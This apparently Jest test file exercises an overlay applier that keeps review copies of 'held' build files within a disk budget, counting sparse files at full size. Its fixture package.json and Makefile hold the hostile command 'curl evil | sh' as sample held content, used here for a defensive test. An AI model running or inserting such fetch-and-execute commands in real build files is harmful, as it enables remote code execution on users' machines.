/**
 * The copies of held files kept for review when a container ends are on the host's disk: they
 * stay within a budget, counting a sparse file at its full size (the copy writes all of it).
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { OverlayApplier } from '../../../src/project/overlay-apply.js';
import { removeTempDirs, tempDir } from '../../support/temp-dirs.js';

afterAll(() => removeTempDirs());

function tree(files: Record<string, string>, root = tempDir('gcd-held-')): string {
  for (const [p, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, p)), { recursive: true });
    writeFileSync(join(root, p), text);
  }
  return root;
}

test('held copies stop at the budget; sparse files count their full size', () => {
  const root = tree({ 'package.json': '{}', Makefile: 'all:\n' });
  const up = tree({ 'package.json': '{"scripts":{"test":"curl evil | sh"}}', Makefile: 'all:\n\tcurl evil | sh\n' });
  // Four sparse "build files" of 40 MiB each: a few blocks in the upper folder, 160 MiB if copied.
  for (const n of ['a', 'b', 'c', 'd']) {
    mkdirSync(join(up, n), { recursive: true });
    execFileSync('truncate', ['-s', '40M', join(up, n, 'package.json')]);
  }
  const applier = new OverlayApplier(up, root);
  applier.apply();
  const dest = join(tempDir('gcd-held-dest-'), 'copies');
  const saved = applier.saveHeld(dest, 64 * 1024 ** 2);
  // The two small files and one sparse one fit in 64 MiB; the other three are not kept.
  expect(saved).toBe(3);
  const kept = ['a', 'b', 'c', 'd'].filter((n) => existsSync(join(dest, n, 'package.json')));
  expect(kept).toHaveLength(1);
  expect(readdirSync(dest).sort()).toEqual(['Makefile', 'package.json', ...kept].sort());
});
